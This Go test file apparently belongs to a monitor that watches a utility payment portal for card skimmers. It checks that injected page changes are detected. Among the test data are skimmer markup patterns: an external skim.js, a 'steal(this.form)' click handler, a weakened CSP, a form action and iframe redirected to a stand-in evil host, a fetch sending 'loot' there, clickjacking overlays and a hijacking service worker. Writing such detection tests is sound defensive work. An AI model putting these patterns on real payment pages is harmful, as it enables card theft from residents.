package app

import (
	"net/http"
	"regexp"
	"strings"
	"testing"

	"clearwell/internal/watch"
	"clearwell/internal/watch/browser"
	"clearwell/internal/watch/manifest"
)

// replay is one shape of skimmer, and what must be said of it.
type replay struct {
	name  string
	does  func(evil string) meddling
	sees  manifest.Subject
	named string // a part of what is named
	view  string // that sees it; empty for both
}

// onCard changes the card page, and nothing else.
func onCard(change func(header http.Header, body string) string) meddling {
	return func(r *http.Request, header http.Header, body string) string {
		if r.Method == http.MethodGet && strings.Contains(r.URL.Path, "/pay/quo") {
			return change(header, body)
		}
		return body
	}
}

// inBody puts markup at the end of the card page's main part.
func inBody(markup string) func(string) meddling {
	return func(evil string) meddling {
		return onCard(func(_ http.Header, body string) string {
			return strings.Replace(body, "</main>", strings.ReplaceAll(markup, "EVIL", evil)+"</main>", 1)
		})
	}
}

// unlocked lets an injected script run, as somebody who owns the server would.
func unlocked(markup string) func(string) meddling {
	return func(evil string) meddling {
		return onCard(func(header http.Header, body string) string {
			header.Del("Content-Security-Policy")
			return strings.Replace(body, "</main>", strings.ReplaceAll(markup, "EVIL", evil)+"</main>", 1)
		})
	}
}

var cardFrame = regexp.MustCompile(`<iframe src="[^"]*"`)

// replays are the shapes of wave B and C, and what else has been seen of their
// kind.
func replays() []replay {
	return []replay{
		{"a script's byte", func(string) meddling {
			return func(r *http.Request, _ http.Header, body string) string {
				if strings.HasSuffix(r.URL.Path, ".js") {
					return body + " "
				}
				return body
			}
		}, manifest.File, "/assets/pay.", ""},
		{"an extra script", inBody(`<script src="EVIL/skim.js"></script>`), manifest.Script, "/skim.js", ""},
		{"a script in the page", inBody(`<script>addEventListener("submit", () => {})</script>`), manifest.InlineScript, "", ""},
		{"a handler on the button", func(string) meddling {
			return onCard(func(_ http.Header, body string) string {
				return strings.Replace(body, `data-card-button`, `data-card-button onclick="steal(this.form)"`, 1)
			})
		}, manifest.Handler, "button onclick", ""},
		{"a weaker policy", func(evil string) meddling {
			return onCard(func(header http.Header, body string) string {
				header.Set("Content-Security-Policy", header.Get("Content-Security-Policy")+"; connect-src "+evil)
				return body
			})
		}, manifest.Header, "Content-Security-Policy", ""},
		{"a header dropped", func(string) meddling {
			return onCard(func(header http.Header, body string) string {
				header.Del("X-Frame-Options")
				return body
			})
		}, manifest.Header, "X-Frame-Options", ""},
		{"a field for a card number", inBody(`<input name="cc-number" autocomplete="cc-number">`), manifest.CardField, "cc-number", ""},
		{"another frame", func(evil string) meddling {
			return onCard(func(_ http.Header, body string) string {
				return cardFrame.ReplaceAllString(body, `<iframe src="`+evil+`/fields"`)
			})
		}, manifest.Frame, "/fields", ""},
		{"the frame sent elsewhere by a script", unlocked(`<script>document.querySelector("iframe").contentWindow.location = "EVIL/fields"</script>`), manifest.Connection, "evil.localhost", "browser"},
		{"something over the frame", unlocked(`<div id="lid"></div><style>#lid { position: fixed; inset: 0; }</style>`), manifest.Cover, "div#lid", "browser"},
		{"something that lets clicks through over the frame", unlocked(`<div id="lid"></div><style>#lid { position: fixed; inset: 0; background: white; pointer-events: none; }</style>`), manifest.Cover, "div#lid", "browser"},
		{"the frame made invisible", unlocked(`<style>iframe { opacity: 0.02; }</style>`), manifest.Cover, "iframe", "browser"},
		{"another target of the form", func(evil string) meddling {
			return onCard(func(_ http.Header, body string) string {
				return strings.Replace(body, `method="post" action="`, `method="post" action="`+evil, 1)
			})
		}, manifest.Form, "evil.localhost", ""},
		{"a preconnect", func(evil string) meddling {
			return onCard(func(_ http.Header, body string) string {
				return strings.Replace(body, "</head>", `<link rel="preconnect" href="`+evil+`"></head>`, 1)
			})
		}, manifest.Hint, "preconnect", ""},
		{"a preconnect in a header", func(evil string) meddling {
			return onCard(func(header http.Header, body string) string {
				header.Set("Link", "<"+evil+">; rel=preconnect")
				return body
			})
		}, manifest.Header, "Link", ""},
		{"a service worker", serviceWorker, manifest.Worker, "/eastwell/", "browser"}, // by its scope, until its script is known,
		{"loot kept in the browser", unlocked(`<script>localStorage.setItem("loot", "1")</script>`), manifest.Storage, "localStorage loot", "browser"},
		{"loot sent away", unlocked(`<script>fetch("EVIL/loot", {mode: "no-cors", method: "POST"})</script>`), manifest.Connection, "evil.localhost", "browser"},
		{"a closed shadow with a field", unlocked(`<div id="host"></div><script>host.attachShadow({mode: "closed"}).innerHTML = "<input name=cardnumber autocomplete=cc-number>"</script>`), manifest.CardField, "cardnumber", "browser"},
		{"a page that lies about itself", unlocked(`<script>Element.prototype.querySelectorAll = () => []; document.querySelector("form").insertAdjacentHTML("beforeend", "<input name=card_no>"); JSON.stringify = () => "[]"</script>`), manifest.CardField, "card_no", "browser"},
		{"a link to another office", inBody(`<a href="tel:+15550199">Pay by phone</a>`), manifest.Link, "tel:+15550199", ""},
		{"the whole page elsewhere", func(evil string) meddling {
			return onCard(func(_ http.Header, body string) string {
				return strings.Replace(body, "<head>", `<head><base href="`+evil+`/">`, 1)
			})
		}, manifest.Meta, "base", ""},
	}
}

// serviceWorker has a worker of the portal's own origin answer from then on.
func serviceWorker(string) meddling {
	page := unlocked(`<script>navigator.serviceWorker.register("/eastwell/worker.js")</script>`)("")
	return func(r *http.Request, header http.Header, body string) string {
		if !strings.HasSuffix(r.URL.Path, "/worker.js") {
			return page(r, header, body)
		}
		header.Set("Content-Type", "text/javascript")
		header.Del("Content-Security-Policy")
		header.Set("X-Status", "200")
		return `addEventListener("fetch", () => {})`
	}
}

// Every shape that stands in what is sent is seen in one run: each alone by the
// plain view, and in the browser where all of them are in one page, so that none
// hides another.
func TestEverySkimmerInThePageIsSeen(t *testing.T) {
	l := watchFrom(t)
	english, plain := l.in("en"), []watch.View{l.plain()}
	var all []meddling
	for _, shape := range replays() {
		if shape.view != "" {
			continue
		}
		change := shape.does(l.evil)
		all = append(all, change)
		l.meddle(change)
		report, exhibits := english.Look(t.Context(), plain)
		if !seen(report, "plain", shape) || len(exhibits) == 0 {
			t.Errorf("%s: it is not seen:\n%s", shape.name, report.Words(l.words).Text)
		}
	}
	l.meddle(func(r *http.Request, header http.Header, body string) string {
		for _, change := range all {
			body = change(r, header, body)
		}
		return body
	})
	report, _ := english.Look(t.Context(), []watch.View{l.chromium(browser.Face{})})
	for _, shape := range replays() {
		if shape.view == "" && !seen(report, "browser", shape) {
			t.Errorf("%s: the browser does not see it:\n%s", shape.name, report.Words(l.words).Text)
		}
	}
}

// Every shape that is only there once scripts have run is seen by the browser in
// one run, each alone.
func TestEverySkimmerThatRunsIsSeen(t *testing.T) {
	l := watchFrom(t)
	english, views := l.in("en"), []watch.View{l.chromium(browser.Face{})}
	for _, shape := range replays() {
		if shape.view == "" {
			continue
		}
		l.meddle(shape.does(l.evil))
		report, exhibits := english.Look(t.Context(), views)
		if !seen(report, "browser", shape) || len(exhibits) == 0 {
			t.Errorf("%s: it is not seen:\n%s", shape.name, report.Words(l.words).Text)
		}
	}
}

func seen(report watch.Report, view string, shape replay) bool {
	for _, f := range report.Findings {
		if f.View == view && f.Subject == shape.sees && strings.Contains(f.Name+f.Is, shape.named) {
			return true
		}
	}
	return false
}

// A page that is changed for readers of one language is seen in one run, for
// every run reads them all.
func TestASkimmerForOneLanguageIsSeen(t *testing.T) {
	l := watchFrom(t)
	l.meddle(func(r *http.Request, _ http.Header, body string) string {
		if strings.HasPrefix(r.Header.Get("Accept-Language"), "es") {
			return strings.Replace(body, "</main>", `<script src="/skim.js"></script></main>`, 1)
		}
		return body
	})
	report, _ := l.prober.Look(t.Context(), []watch.View{l.plain()})
	if report.Verdict() != watch.Changed {
		t.Fatal(report.Words(l.words).Text)
	}
	for _, f := range report.Findings {
		if f.Language != "es" {
			t.Errorf("found in %s: %+v", f.Language, f)
		}
	}
}

// A page that is changed for one kind of browser is seen in as many runs as the
// prober has faces, for it wears each once before it wears one again.
func TestASkimmerForOneBrowserIsSeen(t *testing.T) {
	l := watchFrom(t)
	l.meddle(func(r *http.Request, _ http.Header, body string) string {
		if strings.Contains(r.UserAgent(), "Android") {
			return strings.Replace(body, "</main>", `<script src="/skim.js"></script></main>`, 1)
		}
		return body
	})
	english, deck := l.in("en"), watch.NewDeck(browser.Faces())
	for range browser.Faces() {
		face := deck.Draw()
		report, _ := english.Look(t.Context(), []watch.View{l.chromium(face)})
		if caught := report.Verdict() == watch.Changed; caught != (face.Name == "android") {
			t.Errorf("as %s: %s", face.Name, report.Verdict())
		}
	}
}

// A page that is changed every third time is seen in one run, for each view asks
// for it twice in each language.
func TestASkimmerNowAndThenIsSeen(t *testing.T) {
	l := watchFrom(t)
	asked, views, english := 0, []watch.View{l.plain(), l.plain()}, l.in("en")
	change := inBody(`<script src="/skim.js"></script>`)(l.evil)
	l.meddle(func(r *http.Request, header http.Header, body string) string {
		if r.Method == http.MethodGet && strings.Contains(r.URL.Path, "/pay/quo") {
			if asked++; asked%3 == 0 {
				return change(r, header, body)
			}
		}
		return body
	})
	if report, _ := english.Look(t.Context(), views); report.Verdict() != watch.Changed || asked < 4 {
		t.Errorf("%s, asked %d times", report.Verdict(), asked)
	}
}

// A portal that does not answer, or sends the prober elsewhere, is never taken
// for one that is unchanged.
func TestWhatIsNotSeenIsNotGood(t *testing.T) {
	l := watchFrom(t)
	views, english := []watch.View{l.plain()}, l.in("en")
	l.meddle(func(r *http.Request, _ http.Header, body string) string {
		if strings.Contains(r.URL.Path, "/bill/") {
			return "<main>Down for maintenance</main>"
		}
		return body
	})
	if report, _ := english.Look(t.Context(), views); report.Verdict() == watch.Good || len(report.Troubles) == 0 {
		t.Errorf("a broken page is %s", report.Verdict())
	}
	l.meddle(nil)
	english.Fields = map[string]string{"utility_account": display(4), "house_number": "13"}
	if report, _ := english.Look(t.Context(), views); report.Verdict() == watch.Good {
		t.Error("a bill that is not found is good")
	}
	gone := english
	gone.Manifest.Start = "http://127.0.0.1:1/"
	if report, _ := gone.Look(t.Context(), views); report.Verdict() != watch.Unseen {
		t.Errorf("a portal that is not there is %s", report.Verdict())
	}
}

// The prober's browser tells a page nothing that those of residents do not.
func TestTheProberLooksLikeAResident(t *testing.T) {
	l := watchFrom(t)
	view := l.chromium(browser.Faces()[0])
	var asked []*http.Request
	l.meddle(func(r *http.Request, header http.Header, body string) string {
		asked = append(asked, r.Clone(r.Context()))
		header.Del("Content-Security-Policy")
		return strings.Replace(body, "</main>", `<script>
			localStorage.setItem("told", JSON.stringify([navigator.webdriver, navigator.userAgent, navigator.platform, navigator.languages, navigator.plugins.length > 0,
				typeof window.chrome, Object.keys(window).filter((k) => /cdc|driver|selenium|phantom/i.test(k)), navigator.userAgentData && navigator.userAgentData.brands.map((b) => b.brand)]))
			document.title = localStorage.getItem("told"); for (const f of JSON.parse(document.title)) localStorage.setItem("told " + JSON.stringify(f), "1")
		</script></main>`, 1)
	})
	english := l.in("en")
	report, _ := english.Look(t.Context(), []watch.View{view})
	told := map[string]bool{}
	for _, f := range report.Findings {
		if key, ok := strings.CutPrefix(f.Name, "localStorage told "); ok && f.Subject == manifest.Storage {
			told[key] = true
		}
	}
	for _, want := range []string{"false", `"Win32"`, `["en-US","en"]`, "true", "[]"} {
		if !told[want] {
			t.Errorf("the page is not told %s, but %v", want, told)
		}
	}
	for said := range told {
		if strings.Contains(said, "Headless") {
			t.Errorf("the page is told %s", said)
		}
	}
	for _, r := range asked {
		if strings.Contains(r.UserAgent()+r.Header.Get("Sec-Ch-Ua"), "Headless") || !strings.Contains(r.UserAgent(), "Windows NT 10.0") {
			t.Errorf("%s is asked for by %s, %s", r.URL.Path, r.UserAgent(), r.Header.Get("Sec-Ch-Ua"))
		}
	}
	if len(asked) < 5 || len(told) < 5 {
		t.Errorf("%d requests and %d answers: this proves nothing", len(asked), len(told))
	}
}
